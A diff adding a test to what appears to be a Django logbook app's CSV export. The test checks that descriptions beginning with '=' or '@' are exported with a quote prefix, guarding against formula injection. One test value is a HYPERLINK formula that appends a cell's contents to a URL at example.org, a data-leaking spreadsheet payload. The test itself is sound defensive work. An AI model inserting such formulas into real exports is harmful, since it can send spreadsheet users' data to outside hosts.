@@ -188,6 +188,21 @@ def test_it_exports_the_period_as_csv(client, trainer, trainee, confirmed):
     assert trainer.full_name in rows[-1][2]
 
 
+def test_it_exports_text_that_looks_like_a_formula_as_text(client, trainee, trainer, last_month):
+    start, end = last_month
+    formula = '=HYPERLINK("http://example.org/?"&A1;"Voir")'
+    make_entry(trainee, "approved", trainer, date=start, description=formula)
+    make_entry(trainee, "approved", trainer, date=start, description="@SUM(1+1) en réunion")
+    period = services.period_summary_close(trainee=trainee, start=start, end=end)
+    client.force_login(trainee)
+
+    response = client.get(url("logbook_period_csv", period.pk))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    descriptions = {row[6] for row in rows[1:3]}
+    assert descriptions == {"'" + formula, "'@SUM(1+1) en réunion"}
+
+
 def test_it_answers_404_on_a_period_to_other_people(
     client, other_trainee, other_trainer, confirmed
 ):
